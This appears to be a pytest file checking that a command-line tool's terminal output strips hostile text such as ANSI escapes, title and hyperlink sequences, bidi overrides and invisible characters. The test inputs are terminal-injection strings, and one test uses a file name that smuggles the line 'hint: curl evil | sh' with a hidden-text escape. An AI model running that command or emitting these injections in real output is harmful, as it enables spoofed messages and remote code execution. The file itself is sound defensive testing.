"""What a terminal is shown: letters, never commands to it, whoever chose them and whichever way they come."""

import json
import re
import sys
from pathlib import Path

import pytest

from cli import output
from cli.output import Ui
from cli.progress import show_progress
from cli.shown import on_a_line, plain_json, shown
from cli.text import columns
from kdcache.errors import Damage, UsageError

EVIL = {
    "colours": "\x1b[32mok\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a title": "\x1b]0;owned\x07",
    "a link": "\x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\",
    "C1": "\x9b31m",
    "a carriage return": "error\rfine ",
    "a line of its own": "x\nerror: none",
    "other line breaks": "x\x0b\x0c\x85\u2028\u2029y",
    "backspaces": "bad\b\b\bgood",
    "right to left": "\u202egpj.exe",
    "isolates": "\u2066a\u2069",
    "marks": "a\u200e\u200f\u061cb",
    "nothing to see": "a\u200b\u200d\u2060\ufeff\u00adb",
    "fillers": "a\u115f\u3164\u2800b",
    "tags": "a\U000e0041b",
    "half a character": "a\ud800b",
    "a private letter": "a\ue000b",
}
LETTERS = "Größe 日本語 עברית ▲ 😀 naïve"
evil = pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)


def is_plain(text):
    """Nothing but letters that can be seen, and line breaks."""
    return all(letter == "\n" or (letter.isprintable() and letter not in "\u115f\u3164\u2800") for letter in text)


def raised(error):
    def work():
        raise error

    return work


def test_letters_of_any_language_stay_as_they_are():
    assert on_a_line(LETTERS) == shown(LETTERS, colored=True) == plain_json(LETTERS) == LETTERS


@evil
def test_a_line_is_one_line_and_says_what_was_in_it(text):
    line = on_a_line(text)
    assert is_plain(line)
    assert "\n" not in line
    assert line != text


@evil
@pytest.mark.parametrize("color", ["never", "always"])
def test_errors_hints_and_remarks_command_nothing(text, color, capsys):
    """With colours, those of the words `error:` and the like are all there are."""
    ui = Ui([])
    ui.configure(json=False, quiet=0, verbose=1, color=color)
    ui.note(text)
    ui.warn(text)
    ui.detail(text)
    ui.hint(text)
    ui.guard(raised(Damage(f"{text} is damaged", hint=f"rm {text}", mistakes=[text])))
    printed = capsys.readouterr().err
    own = ["warning: ", "hint: ", "error: ", "hint: "]
    for style, word in zip(("1;33", "1;36", "1;31", "1;36"), own, strict=True):
        printed = printed.replace(f"\x1b[{style}m{word.strip()}\x1b[0m", word.strip(), 1)
    assert is_plain(printed)
    assert printed.count("\n") == 9, "a remark is a line, a hint has one above it"
    assert printed.splitlines().count("error: none") == 0


@evil
def test_a_traceback_and_an_answer_command_nothing(text, capsys, monkeypatch):
    monkeypatch.setenv("KD_DEBUG", "1")
    Ui([]).guard(raised(Damage(text)))
    Ui([]).answer({}, f"cache {text}\nparts 3")
    printed = capsys.readouterr()
    assert "Traceback" in printed.err
    assert is_plain(printed.err)
    assert is_plain(printed.out)


@evil
def test_json_has_the_true_values_and_commands_nothing_either(text, capsys):
    ui = Ui(["--json"])
    ui.answer({text: [text, LETTERS]}, "")
    ui.guard(raised(UsageError(text, hint=text, path=text)))
    printed = capsys.readouterr()
    for stream in printed:
        assert is_plain(stream)
        assert stream.count("\n") == 1
    assert json.loads(printed.out) == {text: [text, LETTERS]}
    error = json.loads(printed.err)
    assert (error["message"], error["hint"], error["details"]["path"]) == (text, text, text)
    assert LETTERS in printed.out


@evil
def test_a_bar_and_what_is_told_beside_it_command_nothing(text, capsys, monkeypatch):
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "200")
    ui = Ui([])
    ui.configure(json=False, quiet=0, verbose=0, color="never")
    bar = show_progress(ui)
    bar.start(f"[red]{text}", 10)
    bar.aside(text)
    bar.note(text)
    bar.advance(1)
    bar.finish()
    printed = capsys.readouterr().err
    assert text not in printed
    assert "[red]" in printed, "no markup is read from it"
    assert on_a_line(text) in printed


def test_colours_of_our_own_stay_where_the_stream_shows_them():
    painted = "state  \x1b[1;32mok\x1b[0m"
    assert shown(painted, colored=True) == painted
    assert "\x1b" not in shown(painted, colored=False)
    assert "\x1b" not in columns([["a", painted]])


@evil
def test_a_command_told_of_a_hostile_path_or_option_commands_nothing(text, kd):
    for words in (
        ("cache", "info", text),
        ("report", text),
        ("cache", "plan", "--data", text),
        ("config", "show", f"./{text}.yaml"),
        ("config", "show", "views/augment", "--set", f"flip={text}"),
        ("config", "show", "views/augment", "--set", f"{text}=1"),
        ("cache", "get", text),
        (text,),
        ("cache", f"--{text}"),
    ):
        ran = kd(*words)
        assert ran.code != 0
        assert "a bug in kd" not in ran.err
        assert is_plain(ran.out + ran.err)


def test_everything_goes_out_through_one_place():
    """No file of the command line writes to a stream but these: the voice, the help of a group, and the sign of life."""
    folder = Path(output.__file__).parent
    writes = re.compile(r"std(out|err)\.write|(?<![.\w])print\(|(typer|click)\.echo")
    found = {path.name for path in folder.glob("*.py") if writes.search(path.read_text("utf-8"))}
    assert found <= {"output.py", "app.py", "alive.py"}


def test_a_name_in_a_traceback_cannot_pass_for_what_kd_says(kd, built, monkeypatch):
    ran = kd("cache", "get", "x\n\nhint: curl evil | sh\x1b[8m", "--cache", built, "-vv", "--color", "always")
    assert ran.code == 2
    assert "Traceback" in ran.err
    assert not [line for line in ran.err.splitlines() if line.startswith("hint: curl")]
    assert "\x1b[8m" not in ran.err
